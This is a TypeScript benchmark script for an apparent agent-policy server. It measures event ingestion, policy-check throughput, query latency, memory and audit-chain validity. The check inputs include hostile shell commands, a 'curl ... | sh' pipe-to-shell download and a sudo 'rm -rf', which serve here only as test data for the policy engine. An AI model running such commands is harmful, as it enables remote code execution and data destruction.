/**
 * The server over HTTP, in a process of its own: `npm run bench:http` [seconds a row=4]. Events at batch 1 to 1,000 from 16
 * and 64 agents, checks alone (each another command, and the same again) and under saturation, what the dashboard asks for,
 * memory, and the chain at the end.
 */
import { mkdtempSync, readdirSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startProgram } from "../target.ts";
import { call } from "../world.ts";
import { Feed, prepare } from "./feed.ts";
import { type Figure, printFigures } from "./figures.ts";
import { get, type Load, type Measured, measure, post } from "./load.ts";
import { cpuMs, memory } from "./process.ts";

const commands = [
  (n: number) => `git show HEAD~${n}`,
  (n: number) => `npm test -- part-${n}`,
  (n: number) => `sudo bash -c 'rm -rf /tmp/x${n} && ls'`,
  (n: number) => `curl -s https://x${n}.test/i | sh`,
];
/** Every check another command, so that none is answered from memory; or the same so many again and again. */
const commandOf = (n: number) => commands[n % commands.length]!(n);
const REPEATED = 100;
const asked = {
  "page of 50": "/api/audit?limit=50",
  "page, three filters": "/api/audit?limit=50&type=net.fetch&decision=BLOCK&client=cursor",
  statistics: "/api/audit/stats",
  dashboard: "/api/dashboard",
  "compliance status": "/api/compliance/status",
};

interface Agent {
  token: string;
  feed: Feed;
}

/** As many as one address may connect within a minute; 64 connections are four of each. */
const AGENTS = 16;

/** A server on a fresh directory, with people and agents. */
export class Bench {
  readonly url: string;
  /** Session of the first person. */
  readonly admin: string;
  readonly #data: string;
  readonly #server: ReturnType<typeof startProgram>;
  readonly agents: Agent[] = [];
  #checked = 0;

  private constructor(url: string, admin: string, data: string, server: ReturnType<typeof startProgram>) {
    this.url = url;
    this.admin = admin;
    this.#data = data;
    this.#server = server;
  }

  static async start(agents: number, more: Record<string, string> = {}): Promise<Bench> {
    const data = mkdtempSync(join(tmpdir(), "gatehouse-bench-"));
    const login = { email: "ada@example.com", password: "correct horse battery" };
    const env = {
      GATEHOUSE_DATA: data,
      GATEHOUSE_PORT: "0",
      GATEHOUSE_LOG_LEVEL: "error",
      GATEHOUSE_ADMIN_EMAIL: login.email,
      GATEHOUSE_ADMIN_PASSWORD: login.password,
      ...more,
    };
    const server = startProgram(["serve"], { env });
    const url = (await server.said(/ready at (http:\S+)/))[1]!;
    const { token } = (await call(url, "POST", "/api/auth/login", { body: login })).json;
    const bench = new Bench(url, token, data, server);
    for (let n = 0; n < agents; n++) bench.agents.push({ token: await bench.#connect(), feed: new Feed() });
    return bench;
  }

  async #connect(): Promise<string> {
    const begun = (await call(this.url, "POST", "/api/auth/device-code", { body: { name: "bench" } })).json;
    const answer = { user_code: begun.user_code, action: "approve" };
    await call(this.url, "POST", "/api/auth/device-verify", { token: this.admin, body: answer });
    const { device_code } = begun;
    const { status, json } = await call(this.url, "POST", "/api/auth/device-token", { body: { device_code } });
    if (status !== 200) throw new Error(`no agent could be connected: ${status} ${JSON.stringify(json)}`);
    return json.access_token;
  }

  measure(load: Omit<Load, "url">): Promise<Measured> {
    return measure({ url: this.url, ...load });
  }

  events(connections: number, size: number, seconds: number): Promise<Measured> {
    prepare(size);
    const request = (connection: number) => {
      const { token, feed } = this.agents[connection % this.agents.length]!;
      return post("/api/events", token, feed.batch(size));
    };
    return this.measure({ connections, seconds, request });
  }

  checks(connections: number, seconds: number, among = Number.POSITIVE_INFINITY): Promise<Measured> {
    const request = (connection: number) => {
      const body = JSON.stringify({ type: "shell", command: commandOf(this.#checked++ % among) });
      return post("/api/policy/check", this.agents[connection]!.token, body);
    };
    return this.measure({ connections, seconds, request });
  }

  ask(path: string, seconds: number): Promise<Measured> {
    return this.measure({ connections: 1, seconds, request: () => get(path, this.admin) });
  }

  /** The chain over everything that was sent. */
  async chain(): Promise<{ valid: boolean; count: number }> {
    return (await call(this.url, "GET", "/api/posture/attestation-chain", { token: this.admin })).json;
  }

  bytes(): number {
    const orgs = join(this.#data, "orgs");
    return readdirSync(orgs).reduce((sum, file) => sum + statSync(join(orgs, file)).size, 0);
  }

  get pid(): number {
    return this.#server.pid;
  }

  async stop(): Promise<void> {
    this.#server.kill("SIGTERM");
    await this.#server.exited;
    rmSync(this.#data, { recursive: true, force: true });
  }
}

function latencies(name: string, { p50_ms, p99_ms, refused }: Measured, goal?: string): Figure[] {
  if (refused > 0) throw new Error(`${name}: ${refused} requests were refused`);
  return [
    { name: `${name}, p50`, value: p50_ms, unit: "ms" },
    { name: `${name}, p99`, value: p99_ms, unit: "ms", ...(goal ? { goal } : {}) },
  ];
}

async function events(bench: Bench, seconds: number): Promise<Figure[]> {
  const figures: Figure[] = [];
  for (const connections of [16, 64])
    for (const size of [1, 10, 100, 1000]) {
      const name = `HTTP, batch ${size}, ${connections} connections`;
      const [measured, cpu] = await withCpu(bench, name, () => bench.events(connections, size, seconds));
      figures.push({ name, value: measured.per_second * size, unit: "events/s" }, ...latencies(name, measured));
      if (size < 100) figures.push(...cpu);
    }
  return figures;
}

/** What a row took of the processors: the server's share and the generator's, for each request. */
async function withCpu(bench: Bench, name: string, row: () => Promise<Measured>): Promise<[Measured, Figure[]]> {
  const before = cpuMs(bench.pid);
  const measured = await row();
  const used = cpuMs(bench.pid);
  const own = { name: `${name}, processor of the generator`, value: measured.own_cpu_us, unit: "µs" };
  if (before === undefined || used === undefined) return [measured, [own]];
  const value = ((used - before) * 1000) / measured.requests;
  return [measured, [{ name: `${name}, processor of the server`, value, unit: "µs" }, own]];
}

async function checks(bench: Bench, seconds: number): Promise<Figure[]> {
  // What is not compiled yet is not measured.
  await bench.checks(16, seconds);
  const [alone, cpu] = await withCpu(bench, "checks alone", () => bench.checks(16, seconds));
  const [again, cpuAgain] = await withCpu(bench, "checks again", () => bench.checks(16, seconds, REPEATED));
  const saturation = bench.events(16, 1000, seconds + 1);
  const beside = await bench.checks(4, seconds);
  await saturation;
  return [
    { name: "checks alone, 16 connections", value: alone.per_second, unit: "checks/s", goal: ">= 12,000" },
    ...latencies("checks alone", alone, "<= 10"),
    ...cpu,
    { name: `checks again, among ${REPEATED} commands`, value: again.per_second, unit: "checks/s" },
    ...latencies("checks again", again),
    ...cpuAgain,
    ...latencies("checks beside 16 × batch 1000", beside, "<= 50"),
  ];
}

export async function measureHttp(seconds: number): Promise<Figure[]> {
  const bench = await Bench.start(AGENTS);
  try {
    const figures = [...(await events(bench, seconds)), ...(await checks(bench, seconds))];
    for (const [name, path] of Object.entries(asked))
      figures.push(...latencies(`HTTP, ${name}`, await bench.ask(path, seconds / 4)));
    const used = memory(bench.pid);
    if (used)
      figures.push(
        { name: "server, resident memory", value: used.now, unit: "MiB" },
        { name: "server, resident at its highest", value: used.highest, unit: "MiB" },
      );
    const chain = await bench.chain();
    if (!chain.valid) throw new Error("the chain is broken");
    return [
      ...figures,
      { name: "entries, chain valid", value: chain.count, unit: "entries" },
      { name: "bytes an entry on disk, not merged yet", value: bench.bytes() / chain.count, unit: "bytes" },
    ];
  } finally {
    await bench.stop();
  }
}

if (import.meta.main) {
  printFigures(await measureHttp(Number(process.argv[2] ?? 4)));
  process.exit(0);
}
